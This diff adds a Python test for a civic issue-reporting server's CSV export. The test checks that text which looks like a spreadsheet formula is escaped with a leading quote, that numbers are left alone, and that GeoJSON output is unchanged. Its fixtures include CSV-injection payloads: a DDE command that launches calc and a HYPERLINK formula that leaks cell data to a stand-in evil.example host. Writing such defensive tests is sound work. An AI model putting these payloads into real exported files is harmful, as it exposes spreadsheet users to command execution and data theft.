@@ -220,3 +220,44 @@ async def test_database_down_is_503(server: Server, db_url: str):
             assert "try again" in json.loads(reply.body)["error"]
     finally:
         await outage.dispose()
+
+
+FORMULAS = (
+    '=HYPERLINK("http://x/?"&A1,"Details")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1)",
+    "＝4+4",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+)
+
+
+async def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(server: Server):
+    """OWASP CSV injection: text that starts like a formula is exported behind a `'`, as
+    text; numbers (a negative coordinate) stay numbers; text that is not a formula is kept."""
+    for text in FORMULAS:
+        await server.file(description=text, address=text, now=NOW - timedelta(hours=3))
+    await server.file(description="- 3 дупки, 1-во число", lat=-1.5, lon=-0.25)
+    key = await server.key()
+    form = {"api_key": key, "service_code": "sofia-1", "address_string": "=1+1"}
+    form["description"] = '=HYPERLINK("http://evil.example/?"&A1,"Виж")'
+    assert (await server.post("requests.json", form)).status == 200
+
+    rows = csv_rows(await export(server, "reports.csv"))
+    assert [r["description"] for r in rows] == [
+        *("'" + text for text in FORMULAS),
+        "'- 3 дупки, 1-во число",
+        '\'=HYPERLINK("http://evil.example/?"&A1,"Виж")',
+    ]
+    assert [r["address"] for r in rows[: len(FORMULAS)]] == ["'" + t for t in FORMULAS]
+    assert rows[-1]["address"] == "'=1+1"
+    negative = rows[len(FORMULAS)]
+    assert (negative["lat"], negative["lon"]) == ("-1.5", "-0.25")
+    # GeoJSON is not a spreadsheet format: its properties stay as they were filed
+    [feature] = features(await export(server, "reports.geojson"))
+    assert feature["properties"]["description"] == "- 3 дупки, 1-во число"
+    assert feature["geometry"]["coordinates"] == [-0.25, -1.5]
